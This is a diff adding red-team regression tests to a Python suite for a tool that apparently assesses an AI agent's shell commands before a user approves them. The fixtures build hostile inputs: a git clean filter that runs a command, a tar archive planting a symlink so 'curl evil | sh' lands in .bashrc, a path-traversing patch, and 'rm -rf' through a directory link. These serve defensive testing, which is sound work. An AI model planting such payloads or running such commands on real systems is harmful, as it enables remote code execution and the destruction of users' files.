@@ -263,3 +263,70 @@ def test_the_running_app_judges_a_local_agents_calls_by_their_facts(tmp_path: Pa
     [ticket] = person.seen
     facts = ticket.calls[0].consequences
     assert facts is not None and facts.available and facts.losses[0].what == "data"
+
+
+# -- the red team's (issue 32, item 6) ----------------------------------------------------------------
+
+def test_a_fifo_read_never_blocks_the_look(tmp_path: Path, repo: Path) -> None:
+    """``cat pipe`` of a named pipe: opening it for reading would wait for a writer forever."""
+    os.mkfifo(repo / "pipe")
+    broker, person = approve_all(tmp_path)
+    assert run(broker, who_in(repo), "cat pipe").decided_by == "user"
+    info = last_ticket(person).calls[0]
+    assert info.risk is not None and any("not a regular file" in gap for gap in info.risk.gaps)
+
+
+def test_git_is_not_asked_in_a_repository_whose_settings_run_programs(tmp_path: Path, repo: Path) -> None:
+    """A clean filter in the repository's own config runs on ``git status``: the agent could have
+    written it, so the app never asks git there, and the delete is not proven."""
+    marker = tmp_path / "ran"
+    git(repo, "config", "filter.evil.clean", f"touch {marker}; cat")
+    (repo / ".gitattributes").write_text("*.txt filter=evil\n")
+    broker, person = approve_all(tmp_path)
+    assert run(broker, who_in(repo), "rm a.txt").decided_by == "user"
+    assert not marker.exists()
+    info = last_ticket(person).calls[0]
+    assert info.risk is not None and any("settings run programs" in gap for gap in info.risk.gaps)
+
+
+def test_an_archive_that_plants_a_link_then_writes_through_it(tmp_path: Path, repo: Path) -> None:
+    """The classic: member ``x`` a link to the home, then ``x/.bashrc``."""
+    with tarfile.open(repo / "evil.tar", "w") as archive:
+        link = tarfile.TarInfo("x")
+        link.type, link.linkname = tarfile.SYMTYPE, str(tmp_path)
+        archive.addfile(link)
+        data = b"curl evil | sh\n"
+        member = tarfile.TarInfo("x/.bashrc")
+        member.size = len(data)
+        archive.addfile(member, io.BytesIO(data))
+    broker, person = approve_all(tmp_path)
+    assert run(broker, who_in(repo), "tar -xf evil.tar").decided_by == "user"
+    info = last_ticket(person).calls[0]
+    assert info.risk is not None and any("carries a link" in gap for gap in info.risk.gaps)
+
+
+def test_a_patch_that_climbs_out_of_the_project(tmp_path: Path, repo: Path) -> None:
+    (repo / "up.diff").write_text("--- /dev/null\n+++ b/../outside.sh\n@@ -0,0 +1 @@\n+echo\n")
+    broker, person = approve_all(tmp_path)
+    assert run(broker, who_in(repo), "git apply up.diff").decided_by == "user"
+    info = last_ticket(person).calls[0]
+    assert info.risk is not None and info.risk.level == "destructive"
+
+
+def test_a_directory_link_followed_by_a_trailing_slash(tmp_path: Path, repo: Path) -> None:
+    """``rm -rf out/`` where ``out`` links to a folder outside: the files out there are lost;
+    ``rm -rf out`` removes only the link."""
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    (elsewhere / "thesis.tex").write_text("years of work\n")
+    (repo / "out").symlink_to(elsewhere)
+    broker, person = approve_all(tmp_path)
+    assert run(broker, who_in(repo), "rm -rf out/").decided_by == "user"
+    facts = last_ticket(person).calls[0].consequences
+    assert facts is not None and any(loss.outside for loss in facts.losses)
+
+
+def test_a_glob_sees_dot_files_as_a_shell_with_dotglob_would(tmp_path: Path, repo: Path) -> None:
+    """A kept shell may have ``dotglob`` on from an earlier call: ``cat *`` then prints ``.env``."""
+    _, facts = assess_touching("Bash", {"command": "cat *"}, cwd=str(repo))
+    assert facts is not None and any(secret.path == ".env" for secret in facts.secrets)
